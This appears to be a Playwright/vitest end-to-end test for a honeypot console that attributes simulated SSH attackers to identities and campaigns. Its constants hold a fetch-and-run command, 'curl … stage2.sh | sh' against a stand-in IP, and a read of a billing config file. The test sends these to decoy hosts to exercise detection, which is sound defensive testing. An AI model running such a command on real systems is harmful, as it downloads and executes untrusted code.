import type { Attacker, Campaign, GroupEvidence, Identity, Page as Listed, LogRow } from '@decnet/contracts/api'
import { when } from '@decnet/kernel/testing'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, it, onTestFailed } from 'vitest'
import { barriers, launchBrowser, logIn, photograph, settled, type Visit, visit } from './rig/browser.ts'
import { run, SSH_OPTIONS } from './rig/client.ts'
import { expectFit } from './rig/fit.ts'
import { type Fleet, PASSWORD, startFleet, type Target } from './rig/fleet.ts'

const tools = { chromium: 'chromium', sshpass: 'sshpass', ssh: 'openssh-client' }
const PROMISED_MS = 2000
/** As long as a busy machine may need for what a quiet one does at once. */
const PATIENCE = { timeout: 45_000, interval: 100 }

/** An OpenSSH that offers what hardly any other does. */
const rareTool = ['-o', 'Ciphers=aes256-gcm@openssh.com', '-o', 'MACs=hmac-sha2-512', '-o', 'KexAlgorithms=ecdh-sha2-nistp521']
const otherTool = ['-o', 'Ciphers=aes128-ctr', '-o', 'MACs=hmac-sha1', '-o', 'KexAlgorithms=diffie-hellman-group14-sha256']
const STAGE = 'curl -s -m 1 http://198.51.100.44:8443/.x/stage2.sh | sh'
const HABIT = `cat /opt/billing/ledger.conf; ${STAGE}`
const [FIRST, ...LATER] = ['127.9.3.7', '127.44.8.21', '127.71.5.66', '127.102.9.14'] as const
const ALLY = '127.60.2.9'

when({ tools }).describe('who is behind the addresses, in the console', () => {
  let fleet: Fleet
  let browser: Browser
  let me: Visit
  let page: Page
  let ssh: Target
  let identity: Identity
  let campaign: Campaign

  const session = async (from: string, tool: readonly string[], password: string, command: string, target = ssh) => {
    const { address, port, login } = target
    const to = ['-b', from, ...tool, '-o', `User="${login.user}"`, '-p', String(port), address, command]
    await run('sshpass', ['-p', password, 'ssh', '-F', 'none', ...SSH_OPTIONS, '-o', 'NumberOfPasswordPrompts=1', ...to])
  }
  const attack = async (from: string) => {
    await session(from, rareTool, 'Kestrel-over-91', 'true')
    await session(from, rareTool, ssh.login.password, HABIT)
  }
  const attacker = (ip: string) => fleet.get<Attacker>(`/attackers/${ip}`)
  const identityOf = async (ip: string) => (await fleet.get<{ identity_uuid: string | null }>(`/attackers/${ip}/attribution`)).identity_uuid
  const lastSeen = async (ip: string) => {
    const { data } = await fleet.get<Listed<LogRow>>(
      `/logs?search=${encodeURIComponent(`attacker:${ip} topic:system.log event:disconnect`)}&limit=1`,
    )
    return data[0] ? Date.parse(data[0].timestamp) : Number.NaN
  }
  const open = async (path: string) => {
    await page.goto(path)
    await settled(page)
  }
  const addresses = () => page.getByRole('table').filter({ hasText: 'Why it is here' })
  const row = (ip: string) =>
    addresses()
      .getByRole('row')
      .filter({ has: page.getByRole('link', { name: ip, exact: true }) })

  beforeAll(async () => {
    ;[fleet, browser] = await Promise.all([startFleet(), launchBrowser()])
    ssh = fleet.target('ssh')
    me = await visit(browser, fleet.ready.console, { expected: /status of 4(?:0[14]|10)/u })
    page = me.page
    await page.goto('/')
    await logIn(page, 'admin', PASSWORD)
    await page.getByRole('navigation', { name: 'Pages' }).waitFor()
  })
  beforeEach(({ task }) => onTestFailed(() => photograph(page, `failed-${task.name.slice(0, 40)}`)))
  afterAll(async () => {
    await browser.close()
    await fleet[Symbol.asyncDispose]()
  })

  it('lists of nobody say what will stand in them', async () => {
    await open('/identities')
    await page.getByRole('heading', { name: 'Nobody yet' }).waitFor()
    await page.keyboard.press('g')
    await page.keyboard.press('p')
    await page.getByRole('heading', { name: 'No campaign yet' }).waitFor()
  })

  it('attacker, identity and campaign of a live attack with one rare tool from two addresses are seen within two seconds', async ({
    annotate,
  }) => {
    await session(ALLY, otherTool, fleet.target('ssh', 1).login.password, STAGE, fleet.target('ssh', 1))
    await attack(FIRST)
    await expect.poll(() => identityOf(FIRST).catch(() => null), PATIENCE).not.toBeNull()
    const took: number[] = []
    for (const ip of LATER) {
      // A page of one who was not seen yet: what appears comes by itself.
      await open(`/attackers/${ip}`)
      await page.getByRole('heading', { name: 'Nobody with this address is known' }).waitFor()
      const header = page.getByRole('main').locator('header')
      const seen = header
        .filter({ hasText: ip })
        .filter({ hasText: /is \w+ \w+\s*with \d+ other address(?:es)?\s*in campaign \w+ \w+/u })
        .waitFor({ timeout: PATIENCE.timeout })
        .then(() => Date.now())
      await attack(ip)
      const at = await seen
      took.push(at - (await lastSeen(ip)))
    }
    await annotate(
      `attacker, identity and campaign in Chromium after the last record of the session: ${took.map((ms) => `${ms} ms`).join(', ')}`,
    )
    // The usual time: a busy machine may be late once.
    expect(took.toSorted((a, b) => a - b)[took.length >> 1]).toBeLessThan(PROMISED_MS)
    identity = await fleet.get<Identity>(`/identities/${await identityOf(FIRST)}`)
    expect(identity.addresses).toEqual(expect.arrayContaining([FIRST, ...LATER]))
    campaign = await fleet.get<Campaign>(`/campaigns/${identity.campaign?.uuid}`)
    expect(campaign.identities.map(({ uuid }) => uuid)).toEqual(expect.arrayContaining([identity.uuid, await identityOf(ALLY)]))
    await page.getByRole('link', { name: identity.code_name }).click()
    await page.getByRole('heading', { level: 1, name: identity.code_name }).waitFor()
    await page.getByRole('link', { name: campaign.code_name }).click()
    await page.getByRole('heading', { level: 1, name: campaign.code_name }).waitFor()
  })

  it('says why in words, for each line of the drawing, and the arrows go from line to line', async () => {
    await open(`/identities/${identity.uuid}`)
    const { edges } = await fleet.get<GroupEvidence>(`/identities/${identity.uuid}/evidence`)
    const lines = page.getByRole('radiogroup').getByRole('radio')
    expect(await lines.count()).toBe(edges.length)
    await lines.first().focus()
    for (const edge of edges) {
      const why = page.locator('section').filter({ has: page.getByRole('heading', { name: 'What speaks for it' }) })
      const said = await why.innerText()
      expect(said).toContain('What speaks against it')
      expect(said).toMatch(/SSH client/u)
      for (const { why: reason } of edge.reasons) expect(said).toContain(reason)
      expect(said).toMatch(/\d % sure/u)
      expect(await page.locator(':focus').getAttribute('aria-checked')).toBe('true')
      await page.keyboard.press('ArrowRight')
    }
    await open(`/campaigns/${campaign.uuid}`)
    await page.getByText('198.51.100.44:8443').first().waitFor()
  })

  it('has lists, pages and panels that are open to everybody, in both themes, and fit', async () => {
    const views = [
      ['identities', `/identities?several=1&peek=identity:${identity.uuid}`],
      ['identity', `/identities/${identity.uuid}`],
      ['campaigns', `/campaigns?peek=campaign:${campaign.uuid}`],
      ['campaign', `/campaigns/${campaign.uuid}`],
    ] as const
    for (const [name, path] of views) {
      await page.setViewportSize({ width: 1280, height: 800 })
      await open(path)
      await page
        .getByText(name.startsWith('ident') ? identity.code_name : campaign.code_name)
        .first()
        .waitFor()
      await expectFit(page, name)
    }
  })

  it('is found by name', async () => {
    await open('/')
    await page.keyboard.press('Control+k')
    await page.getByRole('dialog', { name: 'Go anywhere' }).waitFor()
    await page.keyboard.type(identity.code_name.toLowerCase())
    await page.getByRole('option', { name: new RegExp(`^${identity.code_name}`, 'u') }).click()
    await page.getByRole('heading', { level: 1, name: identity.code_name }).waitFor()
    await open(`/campaigns?q=${encodeURIComponent(campaign.code_name.split(' ')[0] ?? '')}`)
    await page.getByRole('link', { name: campaign.code_name }).waitFor()
  })

  it('whoever may only look is offered nothing to say', async () => {
    const send = (path: string, body: unknown, token = fleet.token) =>
      fetch(`${fleet.api}${path}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body: JSON.stringify(body),
      })
    const [given, own] = ['given-by-the-admin-1', 'chosen-by-myself-22']
    expect((await send('/users', { username: 'guest', password: given, role: 'viewer' })).status).toBe(201)
    const { access_token } = (await (await send('/auth/login', { username: 'guest', password: given })).json()) as { access_token: string }
    expect((await send('/auth/change-password', { old_password: given, new_password: own }, access_token)).ok).toBe(true)
    const guest = await visit(browser, fleet.ready.console, { expected: /status of 401/u })
    await guest.page.goto(`/identities/${identity.uuid}`)
    await logIn(guest.page, 'guest', own)
    await guest.page.getByRole('heading', { level: 1, name: identity.code_name }).waitFor()
    await settled(guest.page)
    await guest.page.getByRole('heading', { name: 'What speaks for it' }).waitFor()
    for (const name of [/^They are/u, /^Split off/u, 'Take back']) expect(await guest.page.getByRole('button', { name }).count()).toBe(0)
    expect(await guest.page.getByRole('checkbox').count()).toBe(0)
    await guest.context.close()
  })

  it('what an operator says of a pair is seen at once, and undone as fast', async () => {
    await open(`/identities/${identity.uuid}`)
    await page.getByRole('button', { name: 'They are one' }).click()
    const dialog = page.getByRole('dialog', { name: 'are one?' })
    await dialog.getByLabel('Why').fill('the same hands')
    await dialog.getByRole('button', { name: 'They are one' }).click()
    const said = page.getByText('admin said that they are one.')
    await said.waitFor()
    await page.getByText('the same hands').first().waitFor()
    await page.getByRole('button', { name: 'Undo' }).click()
    await said.waitFor({ state: 'detached', timeout: PATIENCE.timeout })
    await page.getByRole('button', { name: 'They are not' }).waitFor()
  })

  it('what an operator splits stays apart after new events, until it is taken back', async () => {
    const [stranger] = LATER
    await open(`/identities/${identity.uuid}`)
    await page.getByRole('checkbox', { name: `${stranger} is somebody else` }).check()
    await page.getByRole('button', { name: 'Split off 1' }).click()
    const dialog = page.getByRole('dialog', { name: 'Split off 1 address?' })
    await dialog.getByLabel('Why').fill('seen on the phone at that time')
    await photograph(page, 'split-light')
    expect.soft(await barriers(page)).toEqual([])
    await dialog.getByRole('button', { name: 'Split off' }).click()
    await page.getByText('They stay apart, whatever comes.').waitFor()
    await dialog.waitFor({ state: 'detached' })
    await expect.poll(async () => (await identityOf(stranger)) !== (await identityOf(FIRST)), PATIENCE).toBe(true)
    // On the page of either the other is no longer.
    await open(`/identities/${await identityOf(FIRST)}`)
    await row(FIRST).waitFor({ timeout: PATIENCE.timeout })
    await row(stranger).waitFor({ state: 'detached', timeout: PATIENCE.timeout })
    await page.getByText('seen on the phone at that time').first().waitFor()

    const before = await Promise.all([stranger, FIRST].map(attacker))
    await attack(stranger)
    await attack(FIRST)
    await expect
      .poll(
        async () =>
          (await Promise.all([stranger, FIRST].map(attacker))).map(
            ({ session_count }, n) => session_count - (before[n]?.session_count ?? 0),
          ),
        PATIENCE,
      )
      .toEqual([2, 2])
    await expect
      .poll(
        async () => (await row(FIRST).getByRole('cell').allInnerTexts()).includes(String((before[1]?.session_count ?? 0) + 2)),
        PATIENCE,
      )
      .toBe(true)
    expect(await identityOf(stranger)).not.toBe(await identityOf(FIRST))
    expect(await row(stranger).count()).toBe(0)

    for (let left = await page.getByRole('button', { name: 'Take back' }).count(); left > 0; left--) {
      await page.getByRole('button', { name: 'Take back' }).first().click()
      await expect.poll(() => page.getByRole('button', { name: 'Take back' }).count(), PATIENCE).toBeLessThan(left)
    }
    await row(stranger).waitFor({ timeout: PATIENCE.timeout })
  })

  it('the live list tells of all this in words, names and all', async () => {
    await page.goto('/live?by=event')
    await settled(page)
    for (const topic of [
      'identity.link.stated',
      'identity.formed',
      'identity.observation.linked',
      'identity.campaign.assigned',
      'campaign.formed',
    ]) {
      await page.goto(`/live?by=event&q=${encodeURIComponent(`topic:${topic}`)}`)
      const log = page.getByRole('log')
      await log.locator('.ev-verb').first().waitFor()
      const verbs = await log.locator('.ev-verb').allInnerTexts()
      for (const verb of verbs) expect.soft(verb, topic).toMatch(/^[a-z]+(?: [a-z]+)+$/u)
      expect.soft(verbs, topic).not.toContain(topic.replaceAll('.', ' '))
    }
    await page.goto(`/live?by=event&q=${encodeURIComponent('topic:identity.link.stated')}`)
    const said = page.getByRole('log').locator('.ev').filter({ hasText: 'said that two addresses are not one' }).first()
    await said.waitFor()
    expect(await said.innerText()).toMatch(/admin[\s\S]*seen on the phone at that time/u)
    await page.goto(`/live?by=event&q=${encodeURIComponent('topic:identity.>')}`)
    await page.getByRole('log').getByRole('link', { name: identity.code_name }).first().waitFor()
    await photograph(page, 'live-identities')
    await page.getByRole('log').getByRole('link', { name: identity.code_name }).first().click()
    await page.getByRole('heading', { level: 1, name: identity.code_name }).waitFor()
  })

  it('each step says in one line what made it, and in full when it is asked', async () => {
    const { decisions } = await fleet.get<GroupEvidence>(`/identities/${identity.uuid}/evidence`)
    const joined = decisions.find(({ kind, reasons }) => kind === 'linked' && reasons.length > 0)
    expect(joined).toBeDefined()
    await open(`/identities/${identity.uuid}`)
    const steps = page.locator('section').filter({ has: page.getByRole('heading', { name: 'How it came so' }) })
    const step = steps
      .getByRole('listitem')
      .filter({ hasText: joined?.member?.label ?? '' })
      .filter({ hasText: 'Joined' })
      .last()
    const line = step.locator('summary')
    expect((await line.boundingBox())?.height).toBeLessThanOrEqual(32)
    expect(await step.innerText()).not.toContain(joined?.reasons[0]?.why)
    await line.click()
    await step
      .getByText(joined?.reasons[0]?.why ?? '', { exact: true })
      .first()
      .waitFor()
    await photograph(page, 'identity-steps')
    expect(await barriers(page)).toEqual([])
  })

  it('a campaign whose identities were found to be one tells what became of it', async () => {
    const [a, b] = await Promise.all([FIRST, ALLY].map(async (ip) => (await attacker(ip)).uuid))
    const sent = await fetch(`${fleet.api}/identities/links`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${fleet.token}` },
      body: JSON.stringify({ kind: 'confirm', a, b }),
    })
    expect(sent.status).toBe(202)
    await open(`/campaigns/${campaign.uuid}`)
    await page.getByRole('heading', { name: 'This campaign was dissolved' }).waitFor({ timeout: PATIENCE.timeout })
    await page.getByText('Left', { exact: true }).first().waitFor()
    await photograph(page, 'campaign-dissolved')
    expect(await barriers(page)).toEqual([])
  })

  it('all the while: no request to another origin, no complaint of the browser', () => {
    expect(me.watch.foreign).toEqual([])
    expect(me.watch.complaints).toEqual([])
  })
})
